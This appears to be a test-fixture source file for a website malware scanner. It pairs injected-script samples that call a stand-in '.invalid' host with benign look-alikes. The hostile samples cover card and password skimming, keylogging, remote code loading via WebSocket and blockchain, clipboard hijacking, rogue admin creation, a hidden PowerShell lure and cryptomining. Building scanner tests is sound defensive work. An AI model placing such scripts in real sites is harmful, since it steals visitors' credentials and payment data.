/**
 * Scripts in the shape of those that are put into sites. Their hosts are in `.invalid`, and the words by which scanners
 * know such scripts are put together here.
 */
export const foreignHost = 'collector.hf-test.invalid'
export const foreignScript = `https://${foreignHost}/hf_test.js`

export function word(...parts: readonly string[]): string {
  return parts.join('')
}

const create = word('document.create', 'Element')
const run = word('ev', 'al')
const card = word('cc_', 'number')

/** Adds a script whose address is what the expression `address` gives. */
export function loaderOf(address: string): string {
  return `(function(){var s=${create}('script');s.async=true;s.src=${address};document.head.appendChild(s)})();`
}

/** A library that has nothing to do with anything that is put behind it. */
export const library = [
  '/*! hf_test lib 1.0 */',
  '(function (root, factory) {',
  "  if (typeof define === 'function' && define.amd) define(['jquery'], factory)",
  '  else root.hfTestLib = factory(root.jQuery)',
  '})(this, function ($) {',
  '  function Slider(element, options) { this.element = element; this.options = options || {} }',
  '  Slider.prototype.next = function () { this.index = (this.index + 1) % this.count; return this }',
  "  Slider.prototype.show = function () { $(this.element).addClass('is-open'); return this }",
  '  return Slider',
  '});',
  'var hfTestSlider = new hfTestLib(document.body, { speed: 300 });',
  'hfTestSlider.next().show();',
  '',
].join('\n')

/** One script a rule of the malicious tier. */
export const hostile: readonly { readonly rule: number; readonly text: string }[] = [
  {
    rule: 2500,
    text: `(function(){var f=document.querySelectorAll('input[name*="${card}"]');var d={};for(var i=0;i<f.length;i++){d[f[i].name]=f[i].value}var x=new XMLHttpRequest();x.open('POST','https://${foreignHost}/g',true);x.send(btoa(JSON.stringify(d)))})();`,
  },
  {
    rule: 2501,
    text: `(function(){var w=new WebSocket(atob('${base64(`wss://${foreignHost}/s`)}'));w.onmessage=function(m){new Function(m.data)()}})();`,
  },
  { rule: 2502, text: loaderOf(codes(foreignScript)) },
  {
    rule: 2503,
    text: `(function(){if(document.referrer.indexOf(location.hostname)===-1){var x=new XMLHttpRequest();x.onreadystatechange=function(){if(x.readyState==4)${run}(x.responseText)};x.open('GET','https://${foreignHost}/?t='+Math.random(),true);x.send()}})();`,
  },
  {
    rule: 2504,
    text: `if(new RegExp('${word('one', 'page')}|checkout').test(window.location)){${loaderOf(`'${foreignScript}'`)}}`,
  },
  {
    rule: 2505,
    text: `(function(){var r=document.referrer;if(/google|bing|yahoo/.test(r)){window.location.href='https://${foreignHost}/in'}})();`,
  },
  {
    rule: 2506,
    text: `document.write(unescape('${percent(`<iframe src="https://${foreignHost}/f" width="1" height="1"></iframe>`)}'));`,
  },
  {
    rule: 2507,
    text: `(function(){var u='https://${foreignHost}/jquery.php?k='+encodeURIComponent(document.title)+'&r='+encodeURIComponent(document.referrer)+'&h='+encodeURIComponent(window.location.host);document.write('<script src="'+u+'">'+'<'+'/script>')})();`,
  },
  {
    rule: 2508,
    text: `document.getElementById('verify').onclick=function(){navigator.clipboard.writeText('${word('power', 'shell')} -w hidden hf_test')};`,
  },
  {
    rule: 2509,
    text: `(function(){var miner=new ${word('Coin', 'Hive')}.Anonymous('hf_test',{throttle:0.3});miner.start()})();`,
  },
  {
    rule: 2510,
    text: `document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain','bc1q${'hftest0'.repeat(5)}');e.preventDefault()});`,
  },
  {
    rule: 2511,
    text: `(function(){var x=new XMLHttpRequest();x.open('POST','/wp-admin/${word('user-', 'new.php')}',true);x.send('action=createuser&user_login=hf_test&role=${word('admini', 'strator')}')})();`,
  },
  {
    rule: 2512,
    text: `(function(){var b='';document.onkeypress=function(e){b+=String.fromCharCode(e.which);new Image().src='https://${foreignHost}/k?'+b}})();`,
  },
  {
    rule: 2513,
    text: `(function(){fetch('https://${word('bsc-data', 'seed')}.hf-test.invalid/',{method:'POST',body:JSON.stringify({method:'${word('eth_', 'call')}'})}).then(function(r){return r.json()}).then(function(j){${run}(atob(j.result))})})();`,
  },
  {
    rule: 2514,
    text: `document.forms[0].onsubmit=function(){var p=document.querySelector('input[type=password]').value;fetch('https://${word('api.tele', 'gram.org')}/bot0:hf_test/sendMessage?text='+p)};`,
  },
]

/** Scripts that do something like it, and are usual. */
export const harmless: readonly string[] = [
  library,
  // Statistics as their makers tell everybody to load them.
  `var _gaq=_gaq||[];(function(){var ga=${create}('script');ga.src=('https:'==document.location.protocol?'https://ssl':'http://www')+'.google-analytics.com/ga.js';var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(ga,s)})();`,
  // A form that goes to the site itself.
  `jQuery('#checkout').on('submit',function(){jQuery.post('/checkout/save',jQuery(this).serialize(),function(r){location.href='/thanks'})});`,
  // A card form that goes to who takes the money.
  `document.querySelector('#pay').addEventListener('click',function(){var n=document.querySelector('#${card}').value;fetch('https://api.stripe.com/v1/tokens',{method:'POST',body:n})});`,
  // Phones get another page of the same site.
  `if(/android|iphone/i.test(navigator.userAgent)){window.location='/mobile/'}`,
  // Decoders of libraries.
  `function utf8(s){var o='';for(var i=0;i<s.length;i++){var c=s.charCodeAt(i);o+=c<128?String.fromCharCode(c):String.fromCharCode(192|c>>6,128|c&63)}return o}var data=atob('aGZfdGVzdA==');console.log(utf8(data));`,
  // A button that copies an address of a wallet.
  `document.querySelector('.donate').addEventListener('click',function(){navigator.clipboard.writeText('bc1q${'hftest0'.repeat(5)}')});`,
  // A loader of modules that runs what the site itself sends.
  `function load(url){var x=new XMLHttpRequest();x.open('GET',url,false);x.send();(0,${run})(x.responseText)}load('/modules/a.js');`,
  // Keys of a game.
  `document.addEventListener('keydown',function(e){if(e.keyCode===37)move(-1);if(e.keyCode===39)move(1)});`,
]

export function base64(text: string): string {
  return Buffer.from(text, 'latin1').toString('base64')
}

export function codes(text: string): string {
  return `String.${word('fromChar', 'Code')}(${[...Buffer.from(text, 'latin1')].join(',')})`
}

export function percent(text: string): string {
  return [...Buffer.from(text, 'latin1')].map((code) => `%${code.toString(16).padStart(2, '0')}`).join('')
}
